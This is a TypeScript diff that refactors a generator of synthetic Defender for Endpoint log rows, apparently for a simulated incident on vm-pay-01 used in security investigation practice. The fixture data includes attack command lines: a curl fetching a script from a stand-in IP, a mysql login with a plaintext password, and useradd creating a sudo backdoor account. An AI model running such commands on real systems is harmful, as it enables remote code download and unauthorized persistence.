@@ -9,28 +9,47 @@ export function addWorkspace({ state }: Tenant): void {
   state.workspaces.set(demoWorkspaceId, { since: state.now(), mostRows: 10_000, tables: new Map() });
 }
 
-/** What Dana's night on vm-pay-01 left in the logs; nothing without a workspace. */
-export function logNight({ state }: Tenant, { people, vms }: World, at: number, ip: string): void {
+/** Adds rows to the workspace, seconds from `at`; drops them if there is none. */
+export function logsFrom({ state }: Tenant, at: number) {
   const tables = state.workspaces.get(demoWorkspaceId)?.tables;
-  if (!tables) return;
   const add = (table: string, second: number, row: LoggedRow) => {
     const TimeGenerated = new Date(at + second * 1000).toISOString();
-    tables.set(table, [...(tables.get(table) ?? []), { TimeGenerated, ...row }]);
+    tables?.set(table, [...(tables.get(table) ?? []), { TimeGenerated, ...row }]);
   };
-  const DeviceId = 'device-pay-01';
-  const started = (second: number, pid: number, commandLine: string, parent: [pid: number, name: string]) =>
-    add('DeviceProcessEvents', second, {
-      DeviceId,
-      ActionType: 'ProcessCreated',
-      ProcessId: pid,
-      FileName: commandLine.split(' ')[0]?.split('/').at(-1) ?? '',
-      ProcessCommandLine: commandLine,
-      AccountName: 'root',
-      InitiatingProcessId: parent[0],
-      InitiatingProcessFileName: parent[1],
-    });
+  /** A machine that Defender for Endpoint reports on. */
+  const device = (DeviceName: string, AzureResourceId: string) => {
+    const DeviceId = `device-${DeviceName}`;
+    add('DeviceInfo', -3600, { DeviceId, DeviceName, AzureResourceId });
+    return {
+      add: (table: string, second: number, row: LoggedRow) => add(table, second, { DeviceId, ...row }),
+      started: (
+        second: number,
+        pid: number,
+        commandLine: string,
+        [parentPid, parent, parentCommandLine = '']: [pid: number, name: string, commandLine?: string],
+        AccountName = 'root',
+      ) =>
+        add('DeviceProcessEvents', second, {
+          DeviceId,
+          ActionType: 'ProcessCreated',
+          ProcessId: pid,
+          FileName: commandLine.split(' ')[0]?.split('/').at(-1) ?? '',
+          ProcessCommandLine: commandLine,
+          AccountName,
+          InitiatingProcessId: parentPid,
+          InitiatingProcessFileName: parent,
+          InitiatingProcessCommandLine: parentCommandLine,
+        }),
+    };
+  };
+  return { add, device };
+}
+
+/** What Dana's night on vm-pay-01 left in the logs; nothing without a workspace. */
+export function logNight(tenant: Tenant, { people, vms }: World, at: number, ip: string): void {
+  const { add, device } = logsFrom(tenant, at);
+  const { started, add: onDevice } = device('vm-pay-01', vms.pay01);
   const script = '/var/lib/waagent/run-command-handler/download/maintenance/0/script.sh';
-  add('DeviceInfo', -3600, { DeviceId, DeviceName: 'vm-pay-01', AzureResourceId: vms.pay01 });
   started(-20, 812, '/usr/sbin/cron -f', [1, 'systemd']);
   started(95, 4100, `bash ${script}`, [4090, 'run-command-handler']);
   started(96, 4101, 'curl -fsSL https://203.0.113.99/i.sh', [4100, 'bash']);
@@ -41,16 +60,14 @@ export function logNight({ state }: Tenant, { people, vms }: World, at: number, 
   ]);
   started(98, 4104, 'mysql -h db-pay -u app --password=Sup3r-S3cret! -e "select 1"', [4102, 'bash']);
   started(99, 4105, 'useradd -m -G sudo support2', [4100, 'bash']);
-  add('DeviceNetworkEvents', 96, {
-    DeviceId,
+  onDevice('DeviceNetworkEvents', 96, {
     ActionType: 'ConnectionSuccess',
     RemoteIP: '203.0.113.99',
     RemotePort: 443,
     InitiatingProcessId: 4101,
     InitiatingProcessFileName: 'curl',
   });
-  add('DeviceLogonEvents', 130, {
-    DeviceId,
+  onDevice('DeviceLogonEvents', 130, {
     ActionType: 'LogonSuccess',
     LogonType: 'Network',
     AccountName: 'support2',
